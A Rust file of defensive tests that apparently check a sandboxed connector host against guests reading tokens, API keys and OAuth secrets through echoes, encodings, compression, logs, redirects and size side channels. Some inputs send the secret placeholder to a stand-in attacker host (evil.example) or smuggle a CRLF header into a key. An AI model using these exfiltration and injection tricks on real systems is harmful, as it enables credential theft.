//! Attacks on tokens, passwords and keys: what a guest can see of them, wherever a service puts them.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};
use innkeeper::NewConnection;
use serde_json::{Value, json};
use std::io::Write as _;

use crate::attack::{Attack, Class, attack, on_each};
use crate::reach::{Target, tokens};
use crate::rig::{ACCESS_TOKEN, CLIENT_SECRET, REFRESH_TOKEN, RUN, Rig, TOKEN, only, read, request};
use crate::told::Told;
use crate::upstream::{Heard, Reply, echo, json as json_answer, say, written};
use crate::ways::Way;

const SCRUBBER: &str = "the scrubber: whatever an answer echoes, the guest reads `[redacted]`";
const OUT_OF_REACH: &str = "no import answers a credential";
const PLACEHOLDERS: &str = "placeholders are filled in on their way to an approved host, and nowhere else";
const OTHERS: &str = "the error is for who calls, and holds no secret";

/// What is told when nothing of the secret came through, whether it was replaced or the answer refused.
const KEPT: (&str, &str) = ("kept", "nothing of the secret was seen");

pub(crate) fn attacks() -> Vec<Attack> {
    [echoes(), encodings(), codings(), places(), observations(), placeholders(), reach(), grants()]
        .into_iter()
        .flatten()
        .collect()
}

/// What the guest sees of an answer that holds the secret in a form. `forms` says how the form looks to who knows it.
fn in_form(
    id: &'static str,
    what: &'static str,
    headers: &'static [&'static str],
    form: fn(&str) -> Vec<u8>,
) -> Attack {
    attack(Class::Secrets, (id, what), SCRUBBER, KEPT, move |rig: Rig| async move {
        let place = rig
            .upstream()
            .at([echo(headers, move |heard| [b"{\"you sent\": \"", &form(&heard.secret())[..], b"\"}"].concat())]);
        let steps = json!([{ "do": "send", "url": place.url("/"), "keep": true }, { "do": "drain", "max": 13 }]);
        kept(rig.run(steps).await, &[form(TOKEN)])
    })
}

/// Whether nothing of the secret was seen, in none of these forms.
fn kept(told: Told, forms: &[Vec<u8>]) -> Told {
    let seen = told.everything();
    for form in forms {
        // What is no text comes to the guest's output as replacement characters: then its halves would not be found either.
        let form = String::from_utf8_lossy(form).into_owned();
        let quoted = json!(form).to_string();
        let quoted = &quoted[1..quoted.len() - 1];
        let twice = json!(quoted).to_string();
        for part in [form.as_str(), quoted, &twice[1..twice.len() - 1]] {
            if seen.contains(part) {
                return Told::error("leaked", seen);
            }
        }
    }
    match told.kind.as_str() {
        "answer" if !seen.contains("[redacted]") => Told::error("not redacted", seen),
        "answer" | "HttpError::Connect" | "HttpError::TooLarge" | "HttpError::Denied" | "HttpError::InvalidRequest" => {
            Told { kind: KEPT.0.to_owned(), text: KEPT.1.to_owned(), besides: seen }
        }
        _ => told,
    }
}

fn echoes() -> Vec<Attack> {
    vec![
        in_form("secrets-echo", "A service answers with the token", &[], |token| token.as_bytes().to_vec()),
        in_form(
            "secrets-echo-twice",
            "A service answers with the token twice, one over the other's end",
            &[],
            |token| format!("{token}{token}{}", &token[..20]).into_bytes(),
        ),
        in_form("secrets-echo-half", "A service answers with the first half, and then with the whole", &[], |token| {
            format!("{}{token}", &token[..13]).into_bytes()
        }),
        attack(
            Class::Secrets,
            ("secrets-echo-header", "A service answers with the token in a header"),
            SCRUBBER,
            KEPT,
            |rig| async move {
                let place = rig.upstream().at([std::sync::Arc::new(|heard: &Heard| {
                    let header = format!("x-you-sent: <{}>", heard.secret());
                    Reply { bytes: written(200, &[&header], b"{}"), ..Reply::default() }
                }) as crate::upstream::Answer]);
                kept(rig.run(json!([{ "do": "send", "url": place.url("/") }])).await, &[TOKEN.into()])
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-echo-name", "A service names a header after a key"),
            SCRUBBER,
            KEPT,
            |rig| async move {
                // A header's name is in lower case wherever it is read.
                let key = "k7qz2wx9vt4mr8sy";
                let settings = |new: NewConnection| new.field("headerField", "X-Key").secret("apiKey", key);
                let connection = rig.connect("api_key_header", settings).await.expect("it is made");
                let place = rig.upstream().at([say(200, &[&format!("x-{key}: yes"), "y: [redacted]"], "{}")]);
                kept(rig.script(&connection, json!([{ "do": "send", "url": place.url("/") }])).await, &[key.into()])
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-echo-cookie", "A service sets a cookie with the token in it"),
            SCRUBBER,
            ("answer", "\"status\":200"),
            |rig| async move {
                let place = rig.upstream().at([std::sync::Arc::new(|heard: &Heard| {
                    let header = format!("set-cookie: session={}", STANDARD.encode(heard.secret()));
                    Reply { bytes: written(200, &[&header], b"{}"), ..Reply::default() }
                }) as crate::upstream::Answer]);
                let told = rig.run(json!([{ "do": "send", "url": place.url("/") }])).await;
                if told.text.contains("set-cookie") { Told::error("leaked", told.text) } else { told }
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-echo-redirect", "A redirect that the guest stops at has the token in its address"),
            SCRUBBER,
            KEPT,
            |rig| async move {
                let encoded: String = url::form_urlencoded::byte_serialize(TOKEN.as_bytes()).collect();
                let place = rig.upstream().at([say(302, &[&format!("location: ./?t={encoded}")], "")]);
                let send = json!({ "do": "send", "url": place.url("/"), "redirects": "stop" });
                kept(rig.run(json!([send])).await, &[TOKEN.into(), encoded.into()])
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-echo-address", "A redirect that is followed has the token in its address"),
            SCRUBBER,
            KEPT,
            |rig| async move {
                let encoded: String = url::form_urlencoded::byte_serialize(TOKEN.as_bytes()).collect();
                let place =
                    rig.upstream().at([say(302, &[&format!("location: ./?t={encoded}")], ""), say(200, &[], "{}")]);
                kept(rig.run(json!([{ "do": "send", "url": place.url("/") }])).await, &[TOKEN.into(), encoded.into()])
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-echo-refused", "A redirect that is refused has the token in its path"),
            SCRUBBER,
            ("HttpError::Denied", "[redacted]"),
            |rig| async move {
                let encoded: String = url::form_urlencoded::byte_serialize(TOKEN.as_bytes()).collect();
                let place = rig.upstream().at([say(302, &[&format!("location: https://evil.example/{encoded}")], "")]);
                rig.run(json!([{ "do": "send", "url": place.url("/") }])).await
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-echo-trailer", "The token comes in a trailer"),
            SCRUBBER,
            ("answer", "\"body\":\"{}\""),
            |rig| async move {
                let place = rig.upstream().at([std::sync::Arc::new(|heard: &Heard| {
                    let head =
                        "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-token\r\n\r\n2\r\n{}\r\n0\r\n";
                    let bytes = format!("{head}x-token: {}\r\n\r\n", heard.secret()).into_bytes();
                    Reply { bytes, ..Reply::default() }
                }) as crate::upstream::Answer]);
                rig.run(json!([{ "do": "send", "url": place.url("/") }])).await
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-echo-pieces", "A service sends the token a byte at a time"),
            SCRUBBER,
            KEPT,
            |rig| async move {
                let place = rig.upstream().at([std::sync::Arc::new(|heard: &Heard| {
                    let mut bytes = b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n".to_vec();
                    for byte in format!("you sent {} to me", heard.secret()).bytes() {
                        bytes.extend([b"1\r\n", &[byte][..], b"\r\n"].concat());
                    }
                    bytes.extend(b"0\r\n\r\n");
                    Reply { bytes, ..Reply::default() }
                }) as crate::upstream::Answer]);
                let steps = json!([{ "do": "send", "url": place.url("/"), "keep": true }, { "do": "drain", "max": 1 }]);
                kept(rig.run(steps).await, &[TOKEN.into()])
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-echo-bare", "A request goes bare, and the answer has the token of an earlier one"),
            SCRUBBER,
            KEPT,
            |rig| async move {
                let place = rig.upstream().at([say(200, &[], "first"), say(200, &[], TOKEN)]);
                let first = json!({ "do": "send", "url": place.url("/") });
                let second = json!({ "do": "send", "url": place.url("/"), "credential": "omit" });
                kept(rig.run(json!([first, second])).await, &[TOKEN.into()])
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-echo-never", "A host that never gets the credential answers with it all the same"),
            SCRUBBER,
            KEPT,
            |rig| async move {
                let base = rig.upstream().base();
                let connection = rig.approved(&[&format!("{base}, no credential")]).await;
                let place = rig.upstream().at([say(200, &[], TOKEN)]);
                let send = json!({ "do": "send", "url": place.url("/"), "credential": "omit" });
                kept(rig.script(&connection, json!([send])).await, &[TOKEN.into()])
            },
        ),
    ]
}

fn encodings() -> Vec<Attack> {
    fn percent(text: &[u8]) -> String {
        text.iter().map(|byte| format!("%{byte:02X}")).collect()
    }
    fn quoted(text: &str) -> String {
        let quoted = json!(text).to_string();
        quoted[1..quoted.len() - 1].to_owned()
    }
    fn entities(text: &str, write: fn(char) -> String) -> Vec<u8> {
        text.chars().map(write).collect::<String>().into_bytes()
    }
    vec![
        in_form("secrets-base64", "The token comes in base64", &[], |token| STANDARD.encode(token).into_bytes()),
        in_form("secrets-base64-url", "The token comes in base64 for addresses", &[], |token| {
            URL_SAFE_NO_PAD.encode(token).into_bytes()
        }),
        in_form("secrets-base64-shifted", "The same, with one byte before it", &[], |token| {
            STANDARD.encode(format!("a{token}")).into_bytes()
        }),
        in_form("secrets-base64-header", "The whole header comes in base64", &[], |token| {
            STANDARD.encode(format!("authorization: Bearer {token}\r\n")).into_bytes()
        }),
        in_form("secrets-base64-json", "It is in JSON that is in base64", &[], |token| {
            STANDARD.encode(json!({ "token": token }).to_string()).into_bytes()
        }),
        in_form("secrets-base64-wrapped", "The base64 is broken into lines of 16", &[], |token| {
            let encoded = STANDARD.encode(token);
            encoded.as_bytes().chunks(16).collect::<Vec<_>>().join(&b"\r\n"[..])
        }),
        in_form("secrets-base64-twice", "It is in base64 in base64", &[], |token| {
            STANDARD.encode(STANDARD.encode(token)).into_bytes()
        }),
        in_form("secrets-percent", "The token is percent-encoded", &[], |token| percent(token.as_bytes()).into_bytes()),
        in_form("secrets-percent-lower", "The same in lower case, where it has to be", &[], |token| {
            url::form_urlencoded::byte_serialize(token.as_bytes()).collect::<String>().to_lowercase().into_bytes()
        }),
        in_form("secrets-percent-twice", "The same twice", &[], |token| {
            percent(percent(token.as_bytes()).as_bytes()).into_bytes()
        }),
        in_form("secrets-json", "The token is a JSON string", &[], |token| quoted(token).into_bytes()),
        in_form("secrets-json-unicode", "Every character is a `\\u` escape", &[], |token| {
            token.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect::<String>().into_bytes()
        }),
        in_form("secrets-json-twice", "It is JSON in JSON", &[], |token| quoted(&quoted(token)).into_bytes()),
        in_form("secrets-html", "Its special characters are HTML entities", &["content-type: text/html"], |token| {
            let token = token.replace('&', "&amp;").replace('"', "&quot;").replace('/', "&#x2F;").replace('+', "&#43;");
            token.replace('=', "&equals;").replace('\\', "&bsol;").replace('~', "&#126;").into_bytes()
        }),
        in_form("secrets-html-decimal", "Every character is a decimal entity", &["content-type: text/html"], |token| {
            entities(token, |c| format!("&#{};", u32::from(c)))
        }),
        in_form("secrets-html-hex", "Every character is a hexadecimal entity", &["content-type: text/html"], |token| {
            entities(token, |c| format!("&#x{:X};", u32::from(c)))
        }),
        in_form("secrets-utf16", "The answer is in UTF-16", &["content-type: text/plain; charset=utf-16le"], |token| {
            token.encode_utf16().flat_map(u16::to_le_bytes).collect()
        }),
        in_form(
            "secrets-utf16-be",
            "The same the other way round",
            &["content-type: text/plain; charset=utf-16be"],
            |token| token.encode_utf16().flat_map(u16::to_be_bytes).collect(),
        ),
        in_form("secrets-hex", "The token comes in hexadecimal digits", &[], |token| {
            token.bytes().map(|byte| format!("{byte:02x}")).collect::<String>().into_bytes()
        }),
    ]
}

/// Content codings: the token is in what is packed.
fn codings() -> Vec<Attack> {
    fn gzip(bytes: &[u8]) -> Vec<u8> {
        let mut packed = GzEncoder::new(Vec::new(), Compression::fast());
        packed.write_all(bytes).expect("memory takes all");
        packed.finish().expect("it ends")
    }
    fn deflate(bytes: &[u8]) -> Vec<u8> {
        let mut packed = ZlibEncoder::new(Vec::new(), Compression::fast());
        packed.write_all(bytes).expect("memory takes all");
        packed.finish().expect("it ends")
    }
    let coded = |id, what, headers: &'static [&'static str], pack: fn(&[u8]) -> Vec<u8>| {
        attack(Class::Secrets, (id, what), SCRUBBER, KEPT, move |rig: Rig| async move {
            let place = rig.upstream().at([echo(headers, move |heard| {
                pack(format!("{{\"you sent\": {}}}", json!(heard.secret())).as_bytes())
            })]);
            // Whoever could unpack it would see the token: what is handed out must be neither.
            let connection = rig.bearer().await;
            let steps = json!([
                { "do": "send", "url": place.url("/"), "keep": true },
                { "do": "answer", "text": "{}", "files": [{ "name": "f", "body": null }] },
            ]);
            let told = match rig.host().call(request(&connection, RUN, json!({ "steps": steps }))).await {
                Ok(mut result) if result.files.len() == 1 => read(&mut result.files[0]).await,
                result => Told::guest(result),
            };
            let refused = told.kind.starts_with("EgressError::");
            let told = if refused { Told { kind: "HttpError::Connect".to_owned(), ..told } } else { told };
            kept(told, &[TOKEN.into(), json!(TOKEN).to_string().into()])
        })
    };
    vec![
        coded("secrets-gzip", "The answer is packed with gzip", &["content-encoding: gzip"], gzip),
        coded("secrets-gzip-twice", "The answer is packed twice", &["content-encoding: gzip, gzip"], |bytes| {
            gzip(&gzip(bytes))
        }),
        coded(
            "secrets-gzip-lines",
            "The same, in two headers",
            &["content-encoding: gzip", "content-encoding: gzip"],
            |bytes| gzip(&gzip(bytes)),
        ),
        coded("secrets-deflate", "The answer is packed otherwise", &["content-encoding: deflate"], deflate),
        coded(
            "secrets-brotli",
            "The answer says that it is in a coding that nobody asked for",
            &["content-encoding: br"],
            <[u8]>::to_vec,
        ),
        coded("secrets-x-gzip", "The coding goes by its old name", &["content-encoding: x-gzip"], gzip),
    ]
}

/// Places where a token could come to lie.
fn places() -> Vec<Attack> {
    let said = |id, what, last: Value, error: (&'static str, &'static str)| {
        attack(Class::Secrets, (id, what), SCRUBBER, error, move |rig: Rig| {
            let last = last.clone();
            async move {
                let place = rig.upstream().at([echo(&[], |heard| heard.secret().into_bytes())]);
                rig.run(json!([{ "do": "send", "url": place.url("/") }, last])).await
            }
        })
    };
    vec![
        said(
            "secrets-log",
            "A guest logs what it was answered",
            json!({ "do": "log", "text": "{seen}" }),
            ("answer", "[redacted]"),
        ),
        said(
            "secrets-print",
            "A guest prints it",
            json!({ "do": "print", "text": "{seen}" }),
            ("answer", "[redacted]"),
        ),
        said(
            "secrets-event",
            "A guest streams it",
            json!({ "do": "emit", "text": "{seen}" }),
            ("answer", "[redacted]"),
        ),
        said(
            "secrets-error",
            "A guest fails with it",
            json!({ "do": "fail", "text": "{seen}" }),
            ("ActionFailure::Internal", "[redacted]"),
        ),
        said(
            "secrets-panic",
            "A guest panics with it",
            json!({ "do": "panic", "text": "{seen}" }),
            ("CallError::Trapped", "[redacted]"),
        ),
        said(
            "secrets-state",
            "A guest keeps it for the next call",
            json!({ "do": "state_set", "key": "kept", "value": "{seen}" }),
            ("answer", "[redacted]"),
        ),
        on_each(
            Class::Secrets,
            ("secrets-ways", "A service answers with the token, on every way of a guest"),
            SCRUBBER,
            "[redacted]",
            &[Way::Send, Way::SendAll, Way::Download, Way::Upload],
            |rig, way| async move {
                let answer = echo(&[], |heard| {
                    let bearer = heard.header("authorization").unwrap_or_default();
                    bearer.as_bytes().to_vec()
                });
                rig.reach(way, Target::Answer(answer)).await
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-forward", "A guest sends what it was answered on to another service"),
            SCRUBBER,
            ("kept", "[redacted]"),
            |rig| async move {
                let (from, to) = (
                    rig.upstream().at([echo(&[], |heard| heard.secret().into_bytes())]),
                    rig.upstream().at([say(200, &[], "")]),
                );
                let steps = json!([
                    { "do": "send", "url": from.url("/"), "keep": true },
                    { "do": "send", "method": "POST", "url": to.url("/"), "body": { "body": null } },
                ]);
                let told = rig.run(steps).await;
                let body = to.heard().first().map(|heard| String::from_utf8_lossy(&heard.body).into_owned());
                match body {
                    Some(body) => Told::error("kept", body),
                    None => told,
                }
            },
        ),
    ]
}

/// What can be measured of an answer.
fn observations() -> Vec<Attack> {
    let other: String = TOKEN.chars().rev().collect();
    let compared = |id, what, body: fn(&str, &str) -> Vec<u8>, max: u32| {
        let other = other.clone();
        attack(
            Class::Secrets,
            (id, what),
            "what a guest sees does not depend on a secret",
            ("same", "two tokens of one length look the same"),
            move |rig: Rig| {
                let other = other.clone();
                async move {
                    let mut seen = Vec::new();
                    for secret in [TOKEN, &other] {
                        let secret = secret.to_owned();
                        let settings = |new: NewConnection| new.secret("token", secret.clone());
                        let connection = rig.connect("bearer", settings).await.expect("it is made");
                        let answer = echo(&[], move |heard| body(&heard.secret(), TOKEN));
                        let place = rig.upstream().at([answer]);
                        let steps = json!([
                            { "do": "send", "url": place.url("/"), "keep": true }, { "do": "drain", "max": max },
                        ]);
                        let told = rig.script(&connection, steps).await;
                        seen.push(told.text.replace(&place.name, "place"));
                    }
                    if seen[0] == seen[1] {
                        Told::error("same", "two tokens of one length look the same")
                    } else {
                        Told::error("different", format!("{} {}", seen[0], seen[1]))
                    }
                }
            },
        )
    };
    vec![
        compared(
            "secrets-sizes",
            "A guest compares the sizes of what it reads",
            |token, _| format!("{} {} {}", &token[..9], token, &token[5..]).into_bytes(),
            7,
        ),
        compared(
            "secrets-sizes-guess",
            "A service sends a guess beside the token, and a guest compares the sizes",
            |_, guess| {
                // The guess is right for one of the two.
                format!("{} and so on and on and on and on", &guess[..12]).into_bytes()
            },
            1,
        ),
        compared(
            "secrets-sizes-large",
            "The same with an answer of many pieces",
            |token, guess| format!("{}{}", format!("{}. ", &guess[..20]).repeat(5000), token).into_bytes(),
            4096,
        ),
        attack(
            Class::Secrets,
            ("secrets-length", "A guest asks for the length of an answer that was scrubbed"),
            SCRUBBER,
            ("answer", "null"),
            |rig| async move {
                let place = rig.upstream().at([echo(&[], |heard| heard.secret().into_bytes())]);
                rig.run(
                    json!([{ "do": "send", "url": place.url("/"), "keep": true, "quiet": true }, { "do": "length" }]),
                )
                .await
            },
        ),
    ]
}

fn placeholders() -> Vec<Attack> {
    const NAME: &str = "${secret.token}";
    let refused = |id, what, request: Value, error: (&'static str, &'static str)| {
        attack(Class::Secrets, (id, what), PLACEHOLDERS, error, move |rig: Rig| {
            let mut step = request.clone();
            async move {
                step["do"] = json!("send");
                if step["url"].is_null() {
                    step["url"] = json!(rig.upstream().at([say(200, &[], "it was sent")]).url("/"));
                }
                rig.run(json!([step])).await
            }
        })
    };
    let echoed = |id, what, request: Value| {
        attack(Class::Secrets, (id, what), PLACEHOLDERS, KEPT, move |rig: Rig| {
            let mut step = request.clone();
            async move {
                let place =
                    rig.upstream().at([echo(&[], |heard| [heard.head.as_bytes(), b"\r\n\r\n", &heard.body].concat())]);
                step["do"] = json!("send");
                step["method"] = json!("POST");
                step["url"] = json!(format!("{}{}", place.url("/"), step["path"].as_str().unwrap_or_default()));
                let told = rig.run(json!([step])).await;
                kept(told, &[TOKEN.into()])
            }
        })
    };
    let invalid = |text| ("HttpError::InvalidRequest", text);
    vec![
        echoed(
            "secrets-place-body",
            "A secret is put into a body and comes back",
            json!({ "body": { "bytes": NAME } }),
        ),
        echoed(
            "secrets-place-json",
            "A secret is put into JSON and comes back",
            json!({
                "body": { "bytes": "{\"a\": \"${secret.token}\"}" }, "headers": [["content-type", "application/json"]],
            }),
        ),
        echoed(
            "secrets-place-form",
            "A secret is put into a form and comes back",
            json!({ "body": { "form": [["a", NAME]] } }),
        ),
        echoed(
            "secrets-place-part",
            "A secret is put into a part and comes back",
            json!({
                "body": { "multipart": [{ "name": "a", "bytes": NAME }] },
            }),
        ),
        echoed("secrets-place-query", "A secret is put into a query and comes back", json!({ "query": [["a", NAME]] })),
        echoed("secrets-place-path", "A secret is put into a path and comes back", json!({ "path": NAME })),
        echoed(
            "secrets-place-header",
            "A secret is put into a header and comes back",
            json!({ "headers": [["x-a", NAME]] }),
        ),
        refused(
            "secrets-place-elsewhere",
            "A secret is put into a request to a host that nobody approved",
            json!({ "url": "https://evil.example/${secret.token}" }),
            ("HttpError::Denied", "has not approved it"),
        ),
        refused(
            "secrets-place-host",
            "A secret is put into the name of a host",
            json!({ "url": "https://${secret.token}.evil.example/" }),
            invalid("is not an absolute address"),
        ),
        refused(
            "secrets-place-bare",
            "A secret is put into a request that goes bare",
            json!({ "query": [["a", NAME]], "credential": "omit" }),
            invalid("only on requests that carry the connection's credential"),
        ),
        refused(
            "secrets-place-other",
            "A secret is named that the spec does not declare",
            json!({ "query": [["a", "${secret.password}"]] }),
            invalid("names no secret that can be filled in"),
        ),
        attack(
            Class::Secrets,
            ("secrets-place-state", "A placeholder is kept as state and read back"),
            PLACEHOLDERS,
            ("answer", "${secret.token}"),
            |rig| async move {
                rig.run(json!([
                    { "do": "state_set", "key": "k", "value": NAME }, { "do": "state_get", "key": "k" },
                ]))
                .await
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-place-answer", "A placeholder is the output"),
            PLACEHOLDERS,
            ("answer", "${secret.token}"),
            |rig| async move { rig.run(json!([{ "do": "answer", "text": "{\"a\":\"${secret.token}\"}" }])).await },
        ),
        attack(
            Class::Secrets,
            ("secrets-place-range", "A secret is stored with a service and read back in pieces by ranges"),
            PLACEHOLDERS,
            ("HttpError::InvalidRequest", "range"),
            |rig| async move {
                let place = rig
                    .upstream()
                    .at([say(200, &[], "stored"), say(206, &["content-range: bytes 0-8/27"], &TOKEN[..9])]);
                let store = json!({ "do": "send", "method": "PUT", "url": place.url("/"), "body": { "bytes": NAME } });
                let load = json!({ "do": "send", "url": place.url("/"), "headers": [["range", "bytes=0-8"]] });
                rig.run(json!([store, load])).await
            },
        ),
    ]
}

/// What a guest can reach in its sandbox.
fn reach() -> Vec<Attack> {
    let free = |id, what, wall, steps: Value, error: (&'static str, &'static str)| {
        attack(Class::Secrets, (id, what), wall, error, move |rig: Rig| {
            let steps = steps.clone();
            async move { rig.run(steps).await }
        })
    };
    vec![
        free(
            "secrets-learn",
            "A guest asks for all that it may know",
            OUT_OF_REACH,
            json!([{ "do": "learn" }]),
            ("answer", "\"environment\":[]"),
        ),
        free(
            "secrets-claim",
            "A guest asks for the token as a claim",
            OUT_OF_REACH,
            json!([{ "do": "claim", "text": "access_token" }]),
            ("answer", "[null]"),
        ),
        free(
            "secrets-own-state",
            "A guest looks for secrets in its state",
            OUT_OF_REACH,
            json!([
                { "do": "state_get", "key": "token" }, { "do": "state_get", "key": "secrets/token" },
            ]),
            ("answer", "[null,null]"),
        ),
        attack(
            Class::Secrets,
            ("secrets-fresh", "A guest looks for what the call before it left in memory"),
            "a fresh instance for each call",
            ("answer", "\"seen\":[\"there is no such body\"]"),
            |rig| async move {
                let connection = rig.bearer().await;
                let place = rig.upstream().at([echo(&[], |heard| heard.secret().into_bytes())]);
                rig.script(&connection, json!([{ "do": "send", "url": place.url("/"), "keep": true }])).await;
                rig.script(&connection, json!([{ "do": "read_all", "body": 0 }])).await
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-view", "Somebody looks at a connection"),
            "a view holds no secret",
            ("answer", "secret_names: [\"token\"]"),
            |rig| async move {
                let connection = rig.bearer().await;
                Told::of(rig.host().connection(&connection.space, &connection.id).await)
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-header", "A secret holds a line break and would add a header"),
            "a credential is held to what a header may hold",
            ("HttpError::Denied", "holds characters that no header may hold"),
            |rig| async move {
                let secret = "broken\r\nx-evil: 1";
                let settings = |new: NewConnection| new.field("headerField", "X-Key").secret("apiKey", secret);
                match rig.connect("api_key_header", settings).await {
                    Ok(connection) => {
                        let place = rig.upstream().at([say(200, &[], "it was sent")]);
                        rig.script(&connection, json!([{ "do": "send", "url": place.url("/") }])).await
                    }
                    Err(error) => Told::host(&error),
                }
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-widened", "A newer connector takes more placeholders than the owner agreed to"),
            PLACEHOLDERS,
            ("answer", "[\"token\"]"),
            |rig| async move {
                use crate::component::Spec;
                let spec = |names: &[&str]| Spec {
                    auth_types: vec!["bearer".to_owned()],
                    placeholders: names.iter().map(|name| (*name).to_owned()).collect(),
                    ..Spec::named("widened_connector")
                };
                rig.load(spec(&["token"]).component()).await;
                let settings = |new: NewConnection| new.config(json!({})).secret("token", TOKEN).hosts(only(&[]));
                let connection = rig.connect_to("widened_connector", "bearer", settings).await.expect("it is made");
                rig.load(spec(&["token", "password"]).component()).await;
                let view = rig.host().connection(&connection.space, &connection.id).await;
                Told::of(view.map(|view| view.placeholders))
            },
        ),
    ]
}

/// Grants, and who gives them.
fn grants() -> Vec<Attack> {
    vec![
        on_each(
            Class::Secrets,
            ("secrets-oauth-echo", "An endpoint of OAuth refuses and repeats what it was sent"),
            OTHERS,
            "",
            crate::ways::OF_OAUTH,
            |rig, way| async move {
                let answer = std::sync::Arc::new(|heard: &Heard| {
                    let said = format!("{} {}", heard.head, heard.secret());
                    let body = json!({ "error": said, "error_description": said, "error_uri": said });
                    Reply {
                        bytes: written(400, &["content-type: application/json"], body.to_string().as_bytes()),
                        ..Reply::default()
                    }
                });
                rig.reach(way, Target::Answer(answer)).await
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-claim-token", "A token answer repeats the token in a field that the guest may read"),
            SCRUBBER,
            ("kept", "no claim is a secret"),
            |rig| async move {
                let mut answer = tokens();
                answer["instance_url"] = json!(format!("https://example.com/?t={ACCESS_TOKEN}&s={CLIENT_SECRET}"));
                let told = claim(&rig, answer).await;
                let leaked = told.everything().contains(ACCESS_TOKEN) || told.everything().contains(CLIENT_SECRET);
                if leaked { told } else { Told::error("kept", "no claim is a secret") }
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-claim-refresh", "The same with the refresh token in base64"),
            SCRUBBER,
            ("kept", "no claim is a secret"),
            |rig| async move {
                let encoded = STANDARD.encode(REFRESH_TOKEN);
                let mut answer = tokens();
                answer["instance_url"] = json!(format!("https://{encoded}.example.com"));
                let told = claim(&rig, answer).await;
                if told.everything().contains(&encoded) { told } else { Told::error("kept", "no claim is a secret") }
            },
        ),
        attack(
            Class::Secrets,
            ("secrets-older", "A service answers with a token that was renewed since"),
            SCRUBBER,
            KEPT,
            |rig| async move {
                // The first token is refused by the service, and a second one fetched; the first still lives elsewhere.
                let mut second = tokens();
                second["access_token"] = json!("bE9sN4tR1kWm6YpC");
                let token = rig.upstream().at([json_answer(&tokens()), json_answer(&second)]);
                let settings = |new: NewConnection| {
                    new.field("clientId", "client")
                        .secret("clientSecret", CLIENT_SECRET)
                        .field("tokenUrl", token.url("/"))
                };
                let connection = rig.connect("oauth_client_credentials", settings).await.expect("it is made");
                let place =
                    rig.upstream().at([say(401, &[], ""), say(200, &[], "renewed"), say(200, &[], ACCESS_TOKEN)]);
                let send = json!({ "do": "send", "url": place.url("/") });
                rig.script(&connection, json!([send])).await;
                kept(rig.script(&connection, json!([send])).await, &[ACCESS_TOKEN.into()])
            },
        ),
        attack(
            Class::Secrets,
            (
                "secrets-refresh-echo",
                "A service answers with the refresh token and the client's secret, which it never got",
            ),
            SCRUBBER,
            KEPT,
            |rig| async move {
                let token = rig.upstream().at([json_answer(&tokens())]);
                let settings = |new: NewConnection| {
                    new.field("clientId", "client")
                        .secret("clientSecret", CLIENT_SECRET)
                        .field("tokenUrl", token.url("/"))
                };
                let connection = rig.connect("oauth_client_credentials", settings).await.expect("it is made");
                let place = rig.upstream().at([say(200, &[], format!("{REFRESH_TOKEN} {CLIENT_SECRET}"))]);
                let told = rig.script(&connection, json!([{ "do": "send", "url": place.url("/") }])).await;
                kept(told, &[REFRESH_TOKEN.into(), CLIENT_SECRET.into()])
            },
        ),
    ]
}

/// What a guest reads as the claim that its spec declares, of a grant that came with this answer.
async fn claim(rig: &Rig, answer: Value) -> Told {
    let token = rig.upstream().at([json_answer(&answer)]);
    let settings = |new: NewConnection| {
        new.field("clientId", "client").secret("clientSecret", CLIENT_SECRET).field("tokenUrl", token.url("/"))
    };
    let connection = rig.connect("oauth_client_credentials", settings).await.expect("it is made");
    rig.use_grant(&connection).await;
    rig.script(&connection, json!([{ "do": "claim", "text": "instance_url" }])).await
}
